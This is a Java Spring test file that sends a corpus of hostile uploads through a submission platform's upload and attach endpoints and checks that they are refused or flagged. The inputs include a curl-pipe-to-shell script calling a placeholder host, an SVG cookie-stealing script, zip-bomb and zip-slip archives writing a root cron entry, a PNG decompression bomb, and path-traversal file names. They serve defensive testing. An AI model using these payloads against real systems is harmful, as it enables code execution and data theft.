package cn.zhengji.submission.web;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import cn.zhengji.files.StoredFile;
import cn.zhengji.files.StoredFiles;
import cn.zhengji.infrastructure.privacy.PersonalDataCipher;
import cn.zhengji.infrastructure.security.SignedInUser;
import cn.zhengji.organisation.OrganisationKind;
import cn.zhengji.organisation.Organisations;
import cn.zhengji.submission.EntryLifecycle;
import cn.zhengji.submission.SubmissionFixtures;
import cn.zhengji.support.HeldRowLock;
import cn.zhengji.support.TestMedia;
import cn.zhengji.support.ZhengjiTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.web.servlet.DispatcherServlet;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.patch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Issue 3 item 5, end to end: the hostile corpus goes through the real tus endpoint
 * ({@code /api/v1/uploads}) and the entry's attach endpoint, is checked by its content,
 * and gets its specific Chinese message. Files of a format the slot does not take (or
 * unsafe content) are not attached and leave only a FILE_REJECTED audit event; files of
 * the right format breaking a rule are attached with their failed finding. Afterwards the
 * server still answers and every file stored before is byte-identical (SHA-256 recomputed
 * from storage).
 */
@ZhengjiTest
@AutoConfigureMockMvc
class HostileUploadsWebTest {

	@Autowired
	MockMvc mvc;

	@Autowired
	EntryLifecycle changes;

	@Autowired
	StoredFiles storedFiles;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	Organisations organisations;

	@Autowired
	UserDetailsService userDetails;

	@Autowired
	PersonalDataCipher cipher;

	@Autowired
	javax.sql.DataSource dataSource;

	@Autowired
	org.springframework.context.ApplicationContext context;

	SubmissionFixtures fixtures;

	@BeforeEach
	void fixtures() {
		fixtures = new SubmissionFixtures(jdbc, organisations, userDetails, cipher);
	}

	/** One file of the corpus and what must become of it. */
	record Case(String name, String slot, String fileName, byte[] bytes, boolean attached, String message) {
	}

	@Test
	void everyHostileFileGetsItsMessageNothingUnsafeIsAttachedAndEarlierFilesStayByteIdentical() throws Exception {
		SignedInUser worker = fixtures.worker();
		SignedInUser countyAdmin = fixtures
			.admin(fixtures.newOrganisation(fixtures.organisation("fj-fuzhou"), "恶意文件测试区总工会", OrganisationKind.COUNTY));
		long earlier = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "micro-video", "先存好的作品");
		long video = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "micro-video", "恶意视频测试");
		long song = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "song", "恶意歌曲测试");
		long system = changes.create(countyAdmin, SubmissionFixtures.OPEN_CAMPAIGN, "application-system", "恶意系统测试");

		// Files stored before the attack: a good video and a good score.
		byte[] goodVideo = Files.readAllBytes(TestMedia.mp4(1080, 1920, 40, 5));
		byte[] goodScore = png(600, 800);
		UUID videoFile = upload(worker, "好作品.mp4", goodVideo);
		UUID scoreFile = upload(worker, "歌谱.png", goodScore);
		assertThat(flash(attach(worker, earlier, "work", videoFile))).contains("已添加文件 好作品.mp4");
		assertThat(flash(attach(worker, song, "score", scoreFile))).contains("已添加文件 歌谱.png");
		Map<UUID, String> before = Map.of(videoFile, sha256(goodVideo), scoreFile, sha256(goodScore));
		assertThat(storedSums(before.keySet())).isEqualTo(before);

		byte[] script = "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8);
		byte[] truncated = java.util.Arrays.copyOf(goodVideo, goodVideo.length / 2);
		List<Case> corpus = List.of(
				new Case("script renamed .mp4", "work", "作品.mp4", script, false, "文件实际为脚本文件，本项目只接受MP4视频"),
				new Case("truncated MP4", "work", "半截.mp4", truncated, false, "文件不完整：文件在结尾前中断"),
				new Case("MP3 named .mp4", "work", "歌.mp4", Files.readAllBytes(TestMedia.mp3(31, 128, 44100)), false,
						"文件实际为MP3音频，本项目只接受MP4视频"),
				new Case("720P", "work", "720p.mp4", Files.readAllBytes(TestMedia.mp4(1280, 720, 40, 5)), true,
						"分辨率 1280×720，本项目要求 1080P"),
				new Case("4K", "work", "4k.mp4", Files.readAllBytes(TestMedia.mp4(3840, 2160, 31, 1)), true,
						"分辨率 3840×2160，本项目要求 1080P"),
				new Case("1:1", "work", "square.mp4", Files.readAllBytes(TestMedia.mp4(1080, 1080, 31, 1)), true,
						"画面比例 1:1，本项目要求"),
				new Case("29-second micro-video", "work", "short.mp4",
						Files.readAllBytes(TestMedia.mp4(1080, 1920, 29, 1)), true, "时长 29秒，短于本项目下限 30秒"));
		for (Case hostile : corpus) {
			check(worker, video, hostile);
		}
		check(worker, song, new Case("6-minute-12-second song", "work", "长歌.mp3",
				Files.readAllBytes(TestMedia.mp3(372, 128, 44100)), true, "时长 6分12秒，超过本项目上限 6分钟"));
		check(worker, song, new Case("50000×50000 PNG", "score", "巨图.png", pngClaiming(50000, 50000), false,
				"图片尺寸 50000×50000，超过上限"));
		check(worker, song, new Case("SVG with script", "score", "歌谱.png",
				"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>"
					.getBytes(StandardCharsets.UTF_8),
				false, "SVG矢量图（内含脚本）"));
		check(countyAdmin, system, new Case("PPTX zip bomb", "presentation", "炸弹.pptx",
				pptxWith("ppt/media/image1.png", new byte[0], 64L << 20), false, "解压后膨胀超过 200 倍，疑似压缩炸弹，已拒收"));
		check(countyAdmin, system,
				new Case("PPTX zip slip", "presentation", "穿越.pptx",
						pptxWith("../../etc/cron.d/evil", "* * * * * root sh".getBytes(StandardCharsets.UTF_8), 0),
						false, "压缩包内文件名“../../etc/cron.d/evil”不安全（含上级目录“..”）"));

		// Hostile names are refused when the upload begins (the files module's rule):
		// nothing is created.
		long uploadsBefore = jdbc.sql("select count(*) from entry_attachment").query(Long.class).single();
		for (String name : List.of("../../etc/passwd.mp4", "作品\u202Egnp.mp4", "作品\0.mp4", "长".repeat(300) + ".mp4")) {
			mvc.perform(post("/api/v1/uploads").with(csrf())
				.with(user(worker))
				.header("Tus-Resumable", "1.0.0")
				.header("Upload-Length", "10")
				.header("Upload-Metadata", metadata(name))).andExpect(status().isBadRequest());
		}
		assertThat(jdbc.sql("select count(*) from entry_attachment").query(Long.class).single())
			.isEqualTo(uploadsBefore);

		// Still answering, and every file stored before is byte for byte what it was.
		mvc.perform(get("/works").with(user(worker))).andExpect(status().isOk());
		mvc.perform(get("/works/" + video).with(user(worker))).andExpect(status().isOk());
		assertThat(storedSums(before.keySet())).isEqualTo(before);
		for (UUID id : before.keySet()) {
			assertThat(storedFiles.findCompleted(id).orElseThrow().sha256()).isEqualTo(before.get(id));
		}
		// The song slot still holds the good score, and the micro-video its last attached
		// (failing) file.
		assertThat(attachedNames(song)).containsExactlyInAnyOrder("歌谱.png", "长歌.mp3");
		assertThat(attachedNames(video)).containsExactly("short.mp4");
		assertThat(jdbc.sql(
				"select count(*) from audit_event where action = 'FILE_REJECTED' and target_type = 'entry' and target_id in (?, ?, ?)")
			.params(String.valueOf(video), String.valueOf(song), String.valueOf(system))
			.query(Long.class)
			.single()).isEqualTo(7);
	}

	private void check(SignedInUser actor, long entryId, Case hostile) throws Exception {
		UUID upload = upload(actor, hostile.fileName(), hostile.bytes());
		MvcResult result = attach(actor, entryId, hostile.slot(), upload);
		List<UUID> attachedFiles = jdbc.sql("select file_id from entry_attachment where entry_id = ?")
			.param(entryId)
			.query(UUID.class)
			.list();
		if (hostile.attached()) {
			assertThat(flash(result)).as(hostile.name()).contains("已添加文件 " + hostile.fileName());
			String inspection = jdbc.sql("select inspection::text from entry_attachment where file_id = ?")
				.param(upload)
				.query(String.class)
				.single();
			assertThat(inspection).as(hostile.name()).contains(hostile.message());
			assertThat(attachedFiles).as(hostile.name()).contains(upload);
			mvc.perform(get("/works/" + entryId).with(user(actor)))
				.andExpect(status().isOk())
				.andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
					.string(org.hamcrest.Matchers.containsString(hostile.message())));
		}
		else {
			assertThat((String) result.getFlashMap().get("flashError")).as(hostile.name())
				.startsWith("文件 " + hostile.fileName() + " 未被接受：")
				.contains(hostile.message());
			assertThat(attachedFiles).as(hostile.name()).doesNotContain(upload);
		}
	}

	/**
	 * Issue 10 item 1 (R-X-4): in a one-file slot a file that fails its checks never
	 * replaces a passing one. The passing file stays, byte for byte, and the refused
	 * upload is shown inside the slot with its reason; a passing replacement then takes
	 * its place.
	 */
	@Test
	void aFailingUploadLeavesThePassingFileInPlaceAndIsShownAsRefusedInTheSlot() throws Exception {
		SignedInUser worker = fixtures.worker();
		long id = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "micro-video", "好文件不被坏文件替换");
		byte[] goodVideo = Files.readAllBytes(TestMedia.mp4(1080, 1920, 40, 5));
		UUID good = upload(worker, "好作品.mp4", goodVideo);
		assertThat(flash(attach(worker, id, "work", good))).isEqualTo("已添加文件 好作品.mp4，检查结果见下方。");

		UUID bad = upload(worker, "720p.mp4", Files.readAllBytes(TestMedia.mp4(1280, 720, 40, 5)));
		MvcResult refused = attach(worker, id, "work", bad);

		assertThat(
				jdbc.sql("select file_id from entry_attachment where entry_id = ?").param(id).query(UUID.class).list())
			.containsExactly(good);
		assertThat(storedSums(java.util.Set.of(good))).isEqualTo(Map.of(good, sha256(goodVideo)));
		assertThat((String) refused.getFlashMap().get("flashError")).startsWith("文件 720p.mp4 未被接受，原文件 好作品.mp4 保留：")
			.contains("分辨率 1280×720，本项目要求 1080P");
		String page = mvc.perform(get("/works/" + id).with(user(worker))
			// The flash map as the next request reads it: MockMvc's flashAttr writes to
			// the container's session, which Spring Session (issue 11 item 3) hides.
			.requestAttr(DispatcherServlet.INPUT_FLASH_MAP_ATTRIBUTE,
					Map.of("refusedUpload", refused.getFlashMap().get("refusedUpload"))))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		String slot = page.substring(page.indexOf("id=\"slot-work\""));
		slot = slot.substring(0, slot.indexOf("</section>"));
		assertThat(slot).contains(">好作品.mp4</a>").doesNotContain(">720p.mp4</a>");
		String refusal = slot.substring(slot.indexOf("refused-upload"));
		assertThat(refusal).contains("720p.mp4", "未被接受", "分辨率 1280×720，本项目要求 1080P");
		assertThat(jdbc.sql("select count(*) from audit_event where action = 'FILE_REJECTED' and target_id = ?")
			.param(String.valueOf(id))
			.query(Long.class)
			.single()).isEqualTo(1);

		UUID better = upload(worker, "更好的作品.mp4", Files.readAllBytes(TestMedia.mp4(1920, 1080, 35, 5)));
		assertThat(flash(attach(worker, id, "work", better))).isEqualTo("已添加文件 更好的作品.mp4，检查结果见下方。");
		assertThat(attachedNames(id)).containsExactly("更好的作品.mp4");
	}

	/**
	 * Issue 10 item 3: "音质清晰" is a judgement. A phone video whose sound is 64 kbps AAC is
	 * accepted (nothing blocks submitting), and the approver sees the low sound flagged
	 * in the queue and on the decision panel.
	 */
	@Test
	void aPhoneVideoWith64KbpsSoundIsAcceptedAndTheApproverSeesTheSoundFlagged() throws Exception {
		cn.zhengji.organisation.Organisation unit = fixtures.grassroots();
		SignedInUser worker = fixtures.participant("WORKER", unit);
		SignedInUser approver = fixtures.admin(unit);
		long id = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "song", "手机录的歌");
		UUID video = upload(worker, "手机录像.mp4", Files.readAllBytes(TestMedia.mp4(1080, 1920, 40, 5, 64)));

		assertThat(flash(attach(worker, id, "work", video))).isEqualTo("已添加文件 手机录像.mp4，检查结果见下方。");
		String inspection = jdbc.sql("select inspection::text from entry_attachment where file_id = ?")
			.param(video)
			.query(String.class)
			.single();
		assertThat(inspection).contains("NEEDS_REVIEW", "低于参考值 128kbps，音质是否清晰请审核人员试听确认").doesNotContain("FAILED");
		cn.zhengji.submission.SubmittedEntries submitted = cn.zhengji.submission.SubmittedEntries.from(context);
		submitted.complete(worker, id);
		submitted.submit(worker, id);

		String queue = mvc.perform(get("/admin/queue").with(user(approver)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(queue).contains("手机录的歌", "⚑ 机检提示：音质待人工确认");
		String panel = mvc.perform(get("/admin/works/" + id).with(user(approver)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		panel = panel.substring(panel.indexOf("decision-file-flags"));
		assertThat(panel).contains("手机录像.mp4", "低于参考值 128kbps，音质是否清晰请审核人员试听确认");
	}

	/**
	 * No slow work under the entry's lock: the file is inspected before the row is
	 * locked. While another transaction holds the lock and the attach waits for it, the
	 * file's bytes are moved away; an attach that inspected only after taking the lock
	 * would find no file and refuse it.
	 */
	@Test
	void aFileIsInspectedBeforeTheEntryRowIsLockedSoAnInspectionNeverHoldsTheEntry() throws Exception {
		SignedInUser worker = fixtures.worker();
		long id = changes.create(worker, SubmissionFixtures.OPEN_CAMPAIGN, "micro-video", "先检查后加锁");
		UUID upload = upload(worker, "work.mp4", Files.readAllBytes(TestMedia.mp4(1080, 1920, 40, 5)));
		Path stored = storedFiles.localPath(storedFiles.findCompleted(upload).orElseThrow());
		Path aside = stored.resolveSibling(stored.getFileName() + ".aside");
		java.util.concurrent.CompletableFuture<cn.zhengji.submission.AttachOutcome> attached;
		try (HeldRowLock lock = HeldRowLock.on(dataSource, "entry", id)) {
			attached = java.util.concurrent.CompletableFuture
				.supplyAsync(() -> changes.attach(worker, id, "work", null, upload));
			lock.awaitWaiter("for update of e", attached);
			Files.move(stored, aside);
			lock.release();
		}
		try {
			cn.zhengji.submission.AttachOutcome outcome = attached.get(60, java.util.concurrent.TimeUnit.SECONDS);
			assertThat(outcome.attached()).isTrue();
			assertThat(outcome.message()).isEqualTo("已添加文件 work.mp4，检查结果见下方。");
			assertThat(jdbc.sql("select file_id from entry_attachment where entry_id = ?")
				.param(id)
				.query(UUID.class)
				.list()).containsExactly(upload);
		}
		finally {
			Files.move(aside, stored);
		}
	}

	UUID upload(SignedInUser actor, String fileName, byte[] bytes) throws Exception {
		String location = mvc
			.perform(post("/api/v1/uploads").with(csrf())
				.with(user(actor))
				.header("Tus-Resumable", "1.0.0")
				.header("Upload-Length", String.valueOf(bytes.length))
				.header("Upload-Metadata", metadata(fileName)))
			.andExpect(status().isCreated())
			.andReturn()
			.getResponse()
			.getHeader("Location");
		mvc.perform(patch(location).with(csrf())
			.with(user(actor))
			.header("Tus-Resumable", "1.0.0")
			.header("Upload-Offset", "0")
			.contentType("application/offset+octet-stream")
			.content(bytes)).andExpect(status().isNoContent());
		return UUID.fromString(location.substring(location.lastIndexOf('/') + 1));
	}

	MvcResult attach(SignedInUser actor, long entryId, String slot, UUID upload) throws Exception {
		return mvc
			.perform(post("/works/" + entryId + "/slots/" + slot + "/attach").with(csrf())
				.with(user(actor))
				.param("uploadId", upload.toString()))
			.andExpect(status().isFound())
			.andReturn();
	}

	static String flash(MvcResult result) {
		Object success = result.getFlashMap().get("flashSuccess");
		return success != null ? (String) success : (String) result.getFlashMap().get("flashError");
	}

	static String metadata(String fileName) {
		return "filename " + Base64.getEncoder().encodeToString(fileName.getBytes(StandardCharsets.UTF_8))
				+ ",filetype "
				+ Base64.getEncoder().encodeToString("application/octet-stream".getBytes(StandardCharsets.UTF_8));
	}

	/** The SHA-256 of each file, recomputed from the bytes in storage. */
	Map<UUID, String> storedSums(java.util.Set<UUID> ids) throws Exception {
		Map<UUID, String> sums = new LinkedHashMap<>();
		for (UUID id : ids) {
			StoredFile file = storedFiles.findCompleted(id).orElseThrow();
			sums.put(id, sha256(Files.readAllBytes(storedFiles.localPath(file))));
		}
		return sums;
	}

	List<String> attachedNames(long entryId) {
		return jdbc.sql("select file_name from entry_attachment where entry_id = ?")
			.param(entryId)
			.query(String.class)
			.list();
	}

	static String sha256(byte[] bytes) throws Exception {
		return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
	}

	static byte[] png(int width, int height) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", out);
		return out.toByteArray();
	}

	/**
	 * A PNG whose header claims the given size, with a tiny image data chunk: a
	 * decompression bomb for naive decoders.
	 */
	static byte[] pngClaiming(int width, int height) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A });
		chunk(out, "IHDR",
				java.nio.ByteBuffer.allocate(13)
					.putInt(width)
					.putInt(height)
					.put((byte) 8)
					.put((byte) 2)
					.put((byte) 0)
					.put((byte) 0)
					.put((byte) 0)
					.array());
		ByteArrayOutputStream idat = new ByteArrayOutputStream();
		try (java.util.zip.DeflaterOutputStream deflate = new java.util.zip.DeflaterOutputStream(idat)) {
			deflate.write(new byte[64]);
		}
		catch (IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
		chunk(out, "IDAT", idat.toByteArray());
		chunk(out, "IEND", new byte[0]);
		return out.toByteArray();
	}

	private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
		java.util.zip.CRC32 crc = new java.util.zip.CRC32();
		byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
		crc.update(typeBytes);
		crc.update(data);
		out.writeBytes(java.nio.ByteBuffer.allocate(4).putInt(data.length).array());
		out.writeBytes(typeBytes);
		out.writeBytes(data);
		out.writeBytes(java.nio.ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
	}

	/**
	 * A presentation-shaped zip with one extra part of the given name, content and
	 * trailing zeros.
	 */
	static byte[] pptxWith(String extraEntry, byte[] extraContent, long extraZeros) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
			zip.write("<?xml version=\"1.0\"?><Types/>".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry("ppt/presentation.xml"));
			zip.write("<?xml version=\"1.0\"?><p:presentation/>".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry(extraEntry));
			zip.write(extraContent);
			byte[] zeros = new byte[1 << 20];
			for (long written = 0; written < extraZeros; written += zeros.length) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		return bytes.toByteArray();
	}

}
